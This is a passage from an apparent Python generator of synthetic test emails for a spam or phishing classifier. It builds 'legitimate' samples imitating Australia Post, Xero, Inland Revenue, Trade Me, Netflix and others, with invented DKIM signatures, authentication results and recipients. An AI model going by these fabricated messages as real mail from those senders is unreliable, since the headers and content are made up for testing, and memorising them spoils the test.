    top = delivery("mail.optusnet.com.au", rcpt, "mta.notifications.auspost.com.au", "13.111.91.44", when, auth, seed)
    hdrs = [dkim_sig("notifications.auspost.com.au", "200608", seed),
            "From: Australia Post <noreply@notifications.auspost.com.au>",
            f"To: {rcpt}",
            f"Subject: Your parcel from THE ICONIC is on its way",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed + 'm', 8)}-{h(seed + 'm2', 4)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 12)}@ind1s10mta{h(seed, 3, '0123456789')}.xt.local>",
            "X-SFMC-Stack: 10"]
    emit("auspost-on-its-way", "legit", "clean",
         "Genuine Australia Post 'parcel on its way' notification via Salesforce Marketing Cloud on notifications.auspost.com.au, with a click-tracked tracking link; no fee.",
         top, hdrs, alt(plain(paras, "Track your parcel", click, footer), html, bnd(seed, "sfmc")))


@msg
def l_linkt_statement():
    seed, when = "l16", parse_date("2025-04-01 05:10:40 +1000")
    rcpt = "mitch.oconnor93@gmail.com"
    paras = ["Hi Mitchell,", "Your Linkt statement for March 2025 is now available in your account.",
             "Account: 10994471<br>Trips: 23<br>Tolls charged: $118.42<br>Balance: $41.58 (auto top-up on)",
             "Log in at linkt.com.au or in the Linkt app to view your statement."]
    html = card("Linkt", "#6d2077", "Linkt", paras, footer=["Linkt is a Transurban brand. Transurban Queensland Finance Pty Ltd ABN 67 169 090 730"])
    auth = Auth("pass", "bounce@mail.linkt.com.au", "pass", "linkt.com.au", "s1", "pass", "linkt.com.au", "REJECT")
    top = delivery("gmail", rcpt, "mail.linkt.com.au", "203.35.82.17", when, auth, seed)
    hdrs = [dkim_sig("linkt.com.au", "s1", seed, when=when),
            "From: Linkt <noreply@linkt.com.au>",
            f"To: {rcpt}",
            "Subject: Your Linkt statement is ready",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@linkt.com.au>"]
    emit("linkt-statement", "legit", "clean",
         "Genuine Linkt monthly toll statement notice from linkt.com.au with DMARC pass, account summary and no payment request (auto top-up).",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_council_newsletter():
    seed, when = "l17", parse_date("2025-09-19 16:00:08 +1000")
    rcpt = "sharon.miles@bigpond.com"
    cm = "https://surfcoast.createsend1.com/t/d-l-" + h(seed, 7, "abcdefghijklmnopqrstuvwxyz")
    paras = ["<b>Surf Coast Shire — Community News, September 2025</b>",
             f'<b>Spring hard-waste collection</b><br>Book your free kerbside collection before 10 October. <a href="{cm}-l-r/">Book now</a>',
             f'<b>Have your say: Torquay foreshore plan</b><br>Community consultation is open until 3 October. <a href="{cm}-l-y/">Read the draft plan</a>',
             "<b>School holiday activities</b><br>Free library sessions in Torquay, Anglesea and Winchelsea.",
             "We acknowledge the Wadawurrung and Eastern Maar peoples as the Traditional Owners of the land."]
    footer = ["Surf Coast Shire Council, 1 Merrijig Drive, Torquay VIC 3228",
              f'<a href="https://surfcoast.updatemyprofile.com/d-l-{h(seed, 7, "abcdefghijklmnopqrstuvwxyz")}">Update preferences</a> | <a href="{cm}-l-u/">Unsubscribe</a>']
    html = card("Surf Coast Shire", "#00698f", "Surf Coast Shire", paras, footer=footer)
    mf = f"bounces-{h(seed, 10, '0123456789')}@cmail20.com"
    auth = Auth("pass", mf, "pass", "cmail20.com", "cm", "pass", "surfcoast.vic.gov.au", "QUARANTINE",
                extra_dkim=[("pass", "surfcoast.vic.gov.au", "cm")])
    top = delivery("ipmx3.bigpond.com", rcpt, "mail-" + h(seed, 3, '0123456789') + ".cmail20.com", "203.55.21.214", when, auth, seed)
    hdrs = [dkim_sig("surfcoast.vic.gov.au", "cm", seed + "own"),
            dkim_sig("cmail20.com", "cm", seed),
            "From: Surf Coast Shire <news@surfcoast.vic.gov.au>",
            f"To: {addr('Sharon Miles', rcpt)}",
            "Subject: Community News: hard-waste bookings, foreshore plan and more",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 32, UPPERNUM)}@createsend.com>",
            f"X-CMail-Campaign: {h(seed + 'c', 16, UPPERNUM)}",
            f"X-CMail-List: {h(seed + 'l', 16, UPPERNUM)}",
            f"X-Complaints-To: abuse@cmail20.com",
            "Feedback-ID: " + h(seed + "f", 12, "0123456789") + ":" + h(seed + "f2", 8, "0123456789") + ":campaignmonitor",
            *list_unsub(f"https://surfcoast.createsend1.com/t/d-u-{h(seed, 7, 'abcdefghijklmnopqrstuvwxyz')}/",
                        f"unsubscribe-{h(seed + 'us', 14)}@cmail20.com")]
    emit("council-community-news", "bulk", "bulk",
         "Victorian shire council's monthly community newsletter sent via Campaign Monitor (createsend tracking links, council DKIM aligned) about hard-waste bookings and consultations.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_xero_invoice():
    seed, when = "l18", parse_date("2025-10-07 09:14:55 +1100")
    rcpt = "admin@redgumcabinets.com.au"
    url = "https://in.xero.com/" + h(seed, 40, ALNUM)
    paras = ["Hi Redgum Cabinets,",
             "Here's invoice INV-3381 for AUD 2,145.00.",
             "The amount outstanding of AUD 2,145.00 is due on 21 Oct 2025.",
             "View your bill online. From your online bill you can print a PDF or pay online.",
             "If you have any questions, please let us know.",
             "Thanks,<br>Ballarat Hardware &amp; Fixings"]
    html = card("Invoice INV-3381", "#13b5ea", "Ballarat Hardware &amp; Fixings", paras, "View bill", url,
                ["Powered by Xero. Beautiful business."])
    mf = f"bounce-{h(seed, 20)}@post.xero.com"
    auth = Auth("pass", mf, "pass", "post.xero.com", "xero1", "pass", "post.xero.com", "REJECT")
    top = delivery("m365", rcpt, "post-a.xero.com", "52.64.34.101", when, auth, seed)
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    hdrs = [dkim_sig("post.xero.com", "xero1", seed),
            "From: Ballarat Hardware & Fixings <messaging-service@post.xero.com>",
            "Reply-To: accounts@ballarathardware.com.au",
            f"To: {rcpt}",
            "Subject: Invoice INV-3381 from Ballarat Hardware & Fixings for Redgum Cabinets",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed + 'm', 8)}-{h(seed + 'm2', 4)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 12)}@post.xero.com>",
            "X-Xero-MessageType: InvoiceEmail"]
    emit("xero-invoice-supplier", "legit", "clean",
         "Genuine Xero invoice email from a real supplier via post.xero.com (aligned authentication), with link to in.xero.com online bill and the supplier as Reply-To.",
         top, hdrs, alt(plain(paras, "View bill", url), html, bnd(seed)))


# --------------------------------------------------------------------------- Legitimate: New Zealand

@msg
def l_ird_myir():
    seed, when = "l19", parse_date("2025-06-18 08:30:17 +1200")
    rcpt = "bev.mcallister@xtra.co.nz"
    paras = ["Kia ora Beverley,",
             "You have a new letter or message in myIR.",
             "To view it, log in to myIR at ird.govt.nz. For your security, we don't include links to log in within our emails.",
             "Ngā mihi,<br>Inland Revenue | Te Tari Taake"]
    html = card("Inland Revenue", "#00415e", "Inland Revenue - Te Tari Taake", paras, footer=["This email was sent from an unmonitored mailbox."])
    auth = Auth("pass", "noreply@ird.govt.nz", "pass", "ird.govt.nz", "ird2024", "pass", "ird.govt.nz", "REJECT")
    top = delivery("mx.xtra.co.nz", rcpt, "mailout1.ird.govt.nz", "202.53.14.87", when, auth, seed)
    hdrs = [dkim_sig("ird.govt.nz", "ird2024", seed),
            "From: Inland Revenue <noreply@ird.govt.nz>",
            f"To: {rcpt}",
            "Subject: You have new mail in myIR",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 28)}@ird.govt.nz>"]
    emit("ird-myir-new-mail", "legit", "clean",
         "Genuine Inland Revenue myIR new-mail notification from ird.govt.nz (passes DMARC) with no links.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_trademe_sold():
    seed, when = "l20", parse_date("2025-08-03 21:02:44 +1200")
    rcpt = "rachel.kerr@xtra.co.nz"
    lid = h(seed, 10, "0123456789")
    url = f"https://www.trademe.co.nz/a/my-trade-me/sold?utm_source=email&utm_medium=transactional&listing={lid}"
    paras = ["Kia ora Rachel,", "Congratulations, your item has sold!",
             f"<b>Rimu dining table and 6 chairs</b><br>Listing #{lid}<br>Sold for $850.00 (Buy Now) to <b>kiwipete88</b>",
             "Next steps: wait for the buyer to pay and arrange pick-up. With Ping, the money arrives in your account once the buyer pays.",
             "Never send money or bank login details to a buyer, and don't follow payment links sent outside Trade Me."]
    html = card("Trade Me", "#ffd200", "Trade Me", paras, "Go to My Trade Me", url, ["Trade Me Limited, Level 3, 80 Queen Street, Auckland"])
    html = html.replace("color:#ffffff;text-decoration:none", "color:#000000;text-decoration:none").replace('color:#ffffff">Trade Me', 'color:#000000">Trade Me')
    mf = f"bounce-{h(seed, 10)}@mail.trademe.co.nz"
    auth = Auth("pass", mf, "pass", "trademe.co.nz", "tm1", "pass", "trademe.co.nz", "REJECT")
    top = delivery("mx.xtra.co.nz", rcpt, "mta4.mail.trademe.co.nz", "202.162.73.26", when, auth, seed)
    hdrs = [dkim_sig("trademe.co.nz", "tm1", seed),
            "From: Trade Me <noreply@trademe.co.nz>",
            f"To: {rcpt}",
            "Subject: Congratulations, your item has sold - Rimu dining table and 6 chairs",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@trademe.co.nz>"]
    emit("trademe-item-sold", "legit", "clean",
         "Genuine Trade Me 'your item has sold' transactional email from trademe.co.nz with a link to My Trade Me and a scam warning.",
         top, hdrs, alt(plain(paras, "Go to My Trade Me", url), html, bnd(seed)))


@msg
def l_kiwibank_news():
    seed, when = "l21", parse_date("2024-11-05 12:00:31 +1300")
    rcpt = "hemi.parata@gmail.com"
    click = "https://click.email.kiwibank.co.nz/?qs=" + h(seed, 96)
    paras = ["<b>Kiwibank News — November</b>",
             "<b>Getting ready for summer</b><br>Tips for setting up a holiday savings goal in the Kiwibank app.",
             f'<a href="{click}">Read more</a>',
             "<b>Scam alert: fake toll and parcel texts</b><br>We're seeing more texts asking for small payments. Kiwibank will never send you a link to log in.",
             ]
    footer = ["You're receiving this because you're a Kiwibank customer and subscribed to Kiwibank News.",
              f'<a href="https://click.email.kiwibank.co.nz/?qs={h(seed + "u", 96)}">Unsubscribe</a> | Kiwibank Limited, Level 9, 20 Customhouse Quay, Wellington']
    html = card("Kiwibank", "#00853f", "Kiwibank", paras, footer=footer)
    mf = f"bounce-{h(seed, 3, '0123456789')}_HTML-{h(seed + 'b', 9, '0123456789')}-{h(seed + 'c', 6, '0123456789')}@bounce.email.kiwibank.co.nz"
    auth = Auth("pass", mf, "pass", "email.kiwibank.co.nz", "200608", "pass", "kiwibank.co.nz", "REJECT")
    top = delivery("gmail", rcpt, "mta2.email.kiwibank.co.nz", "13.111.54.71", when, auth, seed)
    hdrs = [dkim_sig("email.kiwibank.co.nz", "200608", seed, when=when),
            "From: Kiwibank <news@email.kiwibank.co.nz>",
            f"To: {rcpt}",
            "Subject: Summer savings tips and a scam alert",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed + 'm', 8)}-{h(seed + 'm2', 4)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 12)}@ind1s12mta{h(seed, 3, '0123456789')}.xt.local>",
            *list_unsub(f"https://click.email.kiwibank.co.nz/unsub_center.aspx?qs={h(seed + 'uc', 64)}",
                        f"leave-{h(seed + 'lv', 40)}@leave.email.kiwibank.co.nz"),
            "X-SFMC-Stack: 12"]
    emit("kiwibank-newsletter", "bulk", "bulk",
         "Genuine Kiwibank customer newsletter via Salesforce Marketing Cloud (email.kiwibank.co.nz, aligned) with savings tips and a scam warning; marketing bulk.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed, "sfmc")))


@msg
def l_nz_personal():
    seed, when = "l22", parse_date("2025-01-09 17:42:13 +1300")
    rcpt = "doug.hemara@xtra.co.nz"
    sender = "moana.hemara@gmail.com"
    lines = ["Hi Dad,", "", "We got back from Raglan safe, traffic on SH1 was terrible around Taupiri though.", "",
             "Are you still keen for the kids to stay the weekend of the 18th? Mere has netball Saturday morning in Hamilton so we could drop them after.",
             "", "Love you,", "Moana"]
    html = gmail_html(lines)
    txt = "\n".join(lines) + "\n"
    auth = Auth("pass", sender, "pass", "gmail.com", "20230601", "pass", "gmail.com", "NONE")
    top = delivery("mx.xtra.co.nz", rcpt, "mail-pj1-f49.google.com", "209.85.216.49", when, auth, seed)
    hdrs = [dkim_sig("gmail.com", "20230601", seed, "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", when=when),
            *gmail_sent(seed, when),
            "MIME-Version: 1.0",
            f"From: Moana Hemara <{sender}>",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <CAK{b64tok(seed, 44).replace('/', 'r').replace('+', 'T')}@mail.gmail.com>",
            "Subject: Back home + weekend of the 18th",
            f"To: Dad <{rcpt}>"]
    emit("family-weekend-plans", "legit", "clean",
         "Personal note from a daughter's Gmail to her father's Xtra mailbox about travel and babysitting; nothing to click.",
         top, hdrs, alt(txt, html, bnd(seed, "gmail")))


# --------------------------------------------------------------------------- Legitimate: global brands

@msg
def l_paypal_receipt_au():
    seed, when = "l23", parse_date("2025-06-14 15:27:36 +1000")
    rcpt = "lachie.dawson@gmail.com"
    txn = h(seed, 17, UPPERNUM)
    url = f"https://www.paypal.com/myaccount/transaction/details/{txn}"
    paras = ["Hello Lachlan Dawson,", "You sent a payment of $64.95 AUD to Koala Outdoors Pty Ltd.",
             "It may take a few moments for this transaction to appear in your account.",
             f"<b>Merchant</b><br>Koala Outdoors Pty Ltd<br>orders@koalaoutdoors.com.au<br><br><b>Transaction ID</b><br>{txn}",
             "<b>Purchase details</b><br>Kathmandu-style rain jacket (Navy, M) &nbsp; $64.95 AUD"]
    footer = ["Help &amp; Contact | Security | Apps",
              "PayPal Australia Pty Limited ABN 93 111 195 389 (AFSL 304962). Copyright &copy; 1999-2025 PayPal. All rights reserved."]
    html = card("PayPal", "#003087", "PayPal", paras, "View transaction", url, footer)
    auth = Auth("pass", "service@paypal.com.au", "pass", "paypal.com.au", "pp-dkim1", "pass", "paypal.com.au", "REJECT")
    top = delivery("gmail", rcpt, "mx0.phx.paypal.com", "173.0.84.228", when, auth, seed)
    hdrs = [dkim_sig("paypal.com.au", "pp-dkim1", seed, "Content-Type:Date:To:From:Subject:Message-ID:MIME-Version", when=when),
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 16)}.{h(seed + 'x', 12)}@notify.paypal.com>",
            "From: \"service@paypal.com.au\" <service@paypal.com.au>",
            f"To: {rcpt}",
            "Subject: Receipt for your payment to Koala Outdoors Pty Ltd",
            "X-MaxCode-Template: PPC000660",
            "X-Email-Type-Id: PPC000660"]
    emit("paypal-receipt-au", "legit", "clean",
         "Genuine PayPal Australia payment receipt from service@paypal.com.au (aligned DKIM) for a small online purchase, with the user's full name and a paypal.com link.",
         top, hdrs, alt(plain(paras, "View transaction", url, footer), html, bnd(seed, "sfmc")))


@msg
def l_netflix_new():
    seed, when = "l24", parse_date("2025-12-04 18:05:22 +0000")
    rcpt = "niamh_brennan@outlook.com"
    base = "https://www.netflix.com/ie/title/"
    paras = ["Niamh, new on Netflix this week",
             f'<a href="{base}81{h(seed, 6, "0123456789")}?s=a&trkid={h(seed + "t", 8, "0123456789")}&t=cta">A new season of your favourite Irish crime drama</a>',
             f'<a href="{base}81{h(seed + "b", 6, "0123456789")}?s=a&trkid={h(seed + "t", 8, "0123456789")}&t=cta">Holiday rom-com picks</a>',
             "Watch on your TV, phone, tablet or computer."]
    footer = ["Questions? Call 1800 806 276", "This message was mailed to [" + rcpt + "] by Netflix as part of your Netflix membership.",
              f'<a href="https://www.netflix.com/ie/unsubscribe?ctag=unsub&g={h(seed + "g", 36)}">Unsubscribe</a> | Netflix International B.V.']
    html = card("Netflix", "#000000", "NETFLIX", paras, "Browse now", f"https://www.netflix.com/browse?trkid={h(seed + 't', 8, '0123456789')}", footer)
    mf = f"bounces+{h(seed, 30)}@bounces.netflix.com"
    auth = Auth("pass", mf, "pass", "members.netflix.com", "s2048", "pass", "members.netflix.com", "REJECT",
                extra_dkim=[("pass", "netflix.com", "s2048")])
    top = delivery("outlook", rcpt, "a10-41.smtp-out.amazonses.com", "54.240.10.41", when, auth, seed)
    hdrs = [dkim_sig("members.netflix.com", "s2048", seed),
            dkim_sig("netflix.com", "s2048", seed + "n"),
            f"Date: {rfc_utc(when)}",
            "From: Netflix <info@members.netflix.com>",
            f"To: {rcpt}",
            f"Message-ID: <{h(seed, 12)}.{h(seed + 'b', 10)}.{h(seed + 'c', 8)}@members.netflix.com>",
            "Subject: Niamh, new on Netflix this week",
            *list_unsub(f"https://www.netflix.com/ie/unsubscribe?ctag=unsub1click&g={h(seed + 'g', 36)}"),
            f"X-Netflix-Template: NEW_ON_NETFLIX"]
    emit("netflix-new-on", "bulk", "bulk",
         "Genuine Netflix 'new this week' marketing email from members.netflix.com with aligned DKIM, one-click unsubscribe and links to netflix.com titles.",
         top, hdrs, alt(plain(paras, "Browse now", "https://www.netflix.com/browse", footer), html, bnd(seed)))


@msg
def l_amazon_ca_shipped():
    seed, when = "l25", parse_date("2024-11-19 16:48:03 -0500")
    rcpt = "mgrant1962@sympatico.ca"
    order = f"702-{h(seed, 7, '0123456789')}-{h(seed + 'o', 7, '0123456789')}"
    url = f"https://www.amazon.ca/gp/css/shiptrack/view.html?orderID={order}&ref_=pe_{h(seed + 'r', 7, '0123456789')}_shiptrack"
    paras = ["Hi Margaret,", "Your package has been shipped!",
             f"Arriving <b>Thursday, November 21</b><br>Order # {order}",
             "Anker USB-C Charger 65W &times; 1",
             "Shipped to: Margaret Grant, KINGSTON, ON"]
    footer = ["&copy;2024 Amazon.com.ca, ULC or its affiliates. All rights reserved. 40 King Street West, Suite 4700, Toronto, ON M5H 3Y2",
              "This email was sent from a notification-only address that cannot accept incoming email."]
    html = card("Amazon.ca", "#232f3e", "amazon.ca", paras, "Track package", url, footer)
    mf = f"20241119214803{h(seed, 10, '0123456789')}@bounces.amazon.ca"
    auth = Auth("pass", mf, "pass", "amazon.ca", "qgbqyy4t6ikmkevywi73lxw5z2tqo3au", "pass", "amazon.ca", "QUARANTINE",
                extra_dkim=[("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])
    top = delivery("mxs.bell.net", rcpt, "a48-88.smtp-out.amazonses.com", "54.240.48.88", when, auth, seed)
    hdrs = [dkim_sig("amazon.ca", "qgbqyy4t6ikmkevywi73lxw5z2tqo3au", seed, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", canon="simple/simple", when=when),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", seed + "ses", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", canon="simple/simple", when=when),
            f"Date: {rfc_utc(when)}",
            "From: \"Amazon.ca\" <shipment-tracking@amazon.ca>",
            f"To: {rcpt}",
            f"Message-ID: <0100{h(seed + 'm', 12)}-{h(seed + 'm2', 8)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 4)}-{h(seed + 'm6', 12)}-000000@email.amazonses.com>",
            f"Subject: Your Amazon.ca order #{order} has shipped",
            f"Feedback-ID: ::1.us-east-1.{b64tok(seed + 'fb', 43)}=:AmazonSES",
            f"X-SES-Outgoing: {utc(when).strftime('%Y.%m.%d')}-54.240.48.88"]
    emit("amazon-ca-shipped", "legit", "clean",
         "Genuine Amazon.ca shipment notification from shipment-tracking@amazon.ca via SES with amazon.ca DKIM alignment and amazon.ca tracking link.",
         top, hdrs, alt(plain(paras, "Track package", url, footer), html, bnd(seed, "sfmc")))

# === MESSAGES END ===

def gmail_sent(seed: str, when: datetime) -> list[str]:
    return [f"X-Google-Smtp-Source: AGHT+I{b64tok(seed + 'gss', 72).replace('/', 'x').replace('+', 'Q')}",
            f"X-Received: by 2002:a05:{h(seed + 'z1', 4)}:{h(seed + 'z2', 3)}:b0:{h(seed + 'z3', 3)}:{h(seed + 'z4', 4)} with SMTP id {h(seed + 'zid', 10)}.{int(utc(when).timestamp())};\n        {rfc_date(when)}"]


def check(raw: bytes, name: str) -> None:
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    for line in raw.split(b"\n"):
        assert len(line) < 990, f"{name}: line of {len(line)} bytes"
    for part in msg.walk():
        assert not part.defects, f"{name}: defects {part.defects} in {part.get_content_type()}"
        for key, value in part.items():
            assert not getattr(value, "defects", None), f"{name}: header {key} defects {value.defects}"
        if not part.is_multipart():
            payload = part.get_payload(decode=True)
            assert payload is not None, f"{name}: undecodable part"
            if part.get_content_maintype() == "text":
                part.get_content()
    for key in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[key] is not None, f"{name}: no {key}"


# Maintainer's corrections after the first scan: "file stem" -> category folder.
# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b34-legit-interac-autodeposit": "bulk",
    "b34-legit-cra-new-mail-notice": "bulk",
    "b34-legit-canadapost-delivered": "bulk",
    "b34-legit-hydroquebec-facture": "bulk",
    "b34-legit-rogers-bill-ready": "bulk",
    "b34-legit-revenue-ie-new-item": "bulk",
    "b34-legit-anpost-out-for-delivery": "bulk",
    "b34-legit-aib-estatement-ready": "bulk",
    "b34-legit-mygov-inbox-genuine": "bulk",
    "b34-legit-auspost-on-its-way": "bulk",
    "b34-legit-linkt-statement": "bulk",
    "b34-legit-ird-myir-new-mail": "bulk",
    "b34-legit-trademe-item-sold": "bulk",
    "b34-legit-amazon-ca-shipped": "bulk",
}


def main() -> None:
    for old in MAIL.glob("*/b34-*.eml"):
        old.unlink()
    for builder in BUILDERS:
        builder()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if e[1] == "phish"]
    legit = [e for e in ENTRIES if e[1] in ("legit", "bulk")]
    assert len(attacks) == 50, f"{len(attacks)} attacks"
    assert len(legit) == 25, f"{len(legit)} legitimate"
    manifest = []
    counts: dict[str, int] = {}
    for stem, kind, cat, desc, raw in ENTRIES:
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(manifest) + "\n", encoding="utf-8")
    print(f"{len(ENTRIES)} messages: {len(attacks)} attacks, {len(legit)} legitimate")
    for folder in sorted(counts):
        print(f"  {folder}: {counts[folder]}")


if __name__ == "__main__":
    main()
